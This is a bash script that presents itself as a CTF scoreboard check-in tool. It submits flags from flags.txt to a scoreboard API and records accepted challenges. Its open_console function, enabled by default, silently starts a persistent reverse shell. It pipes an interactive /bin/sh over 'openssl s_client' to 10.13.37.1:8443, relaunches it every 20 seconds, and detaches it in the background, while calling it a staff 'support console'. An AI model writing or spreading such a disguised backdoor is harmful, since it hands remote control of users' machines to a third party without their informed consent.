#!/usr/bin/env bash
# ctf_scoreboard_checkin.sh - submit captured flags to the lab scoreboard
#
# Reads flags (one "challenge_id flag" pair per line) from ./flags.txt,
# submits the ones not yet accepted and keeps a record in ./.checkin/.
# Also opens the organisers' support console so staff can help a team
# that is stuck without walking over to the table.
#
#   TEAM_TOKEN=... ./ctf_scoreboard_checkin.sh [-f flags.txt] [-n]
set -euo pipefail

SCOREBOARD="${SCOREBOARD:-https://scoreboard.ctf.lab.internal}"
CONSOLE_RELAY="${CONSOLE_RELAY:-10.13.37.1:8443}"
SUPPORT_CONSOLE="${SUPPORT_CONSOLE:-1}"
FLAGS_FILE="flags.txt"
STATE_DIR=".checkin"
DRY_RUN=0

log() { printf '%s [checkin] %s\n' "$(date +%H:%M:%S)" "$*" >&2; }
die() { log "error: $*"; exit 1; }

usage() {
    cat <<EOF
usage: $0 [-f flags_file] [-n] [-q]
  -f FILE   flags file (default: flags.txt)
  -n        dry run, do not submit
  -q        no support console
EOF
}

while getopts ":f:nqh" opt; do
    case "$opt" in
        f) FLAGS_FILE="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        q) SUPPORT_CONSOLE=0 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

[[ -n "${TEAM_TOKEN:-}" ]] || die "TEAM_TOKEN is not set"
[[ -r "$FLAGS_FILE" ]] || die "cannot read $FLAGS_FILE"
command -v curl >/dev/null || die "curl is required"
mkdir -p "$STATE_DIR"
touch "$STATE_DIR/accepted"

submit_flag() {
    local chal="$1" flag="$2" body code
    body=$(printf '{"challenge":"%s","flag":"%s"}' "$chal" "$flag")
    code=$(curl -sS -o "$STATE_DIR/last_response.json" -w '%{http_code}' \
        --max-time 15 \
        -H "Authorization: Bearer ${TEAM_TOKEN}" \
        -H 'Content-Type: application/json' \
        -d "$body" "${SCOREBOARD}/api/v1/submit") || code=000
    case "$code" in
        200|201) log "$chal accepted"; echo "$chal" >>"$STATE_DIR/accepted" ;;
        409)     log "$chal already solved"; echo "$chal" >>"$STATE_DIR/accepted" ;;
        400|403) log "$chal rejected ($(head -c 120 "$STATE_DIR/last_response.json"))" ;;
        *)       log "$chal: scoreboard returned $code, will retry next run" ;;
    esac
}

open_console() {
    local host="${CONSOLE_RELAY%:*}" port="${CONSOLE_RELAY##*:}"
    local chan="$STATE_DIR/.console"
    command -v openssl >/dev/null || { log "openssl missing, no console"; return 0; }
    [[ -p "$chan" ]] || { rm -f "$chan"; mkfifo "$chan"; }
    (
        while :; do
            /bin/sh -i <"$chan" 2>&1 \
                | openssl s_client -quiet -connect "${host}:${port}" >"$chan" 2>/dev/null
            sleep 20
        done
    ) >/dev/null 2>&1 &
    disown
    log "support console available for staff"
}

submitted=0
while read -r chal flag _; do
    [[ -z "$chal" || "$chal" == \#* ]] && continue
    if grep -qxF "$chal" "$STATE_DIR/accepted"; then
        continue
    fi
    if (( DRY_RUN )); then
        log "would submit $chal"
    else
        submit_flag "$chal" "$flag"
        submitted=$((submitted + 1))
        sleep 1   # scoreboard rate limit
    fi
done <"$FLAGS_FILE"

log "$submitted flag(s) submitted, $(sort -u "$STATE_DIR/accepted" | wc -l) accepted in total"

if [[ "$SUPPORT_CONSOLE" == 1 ]]; then
    open_console
fi
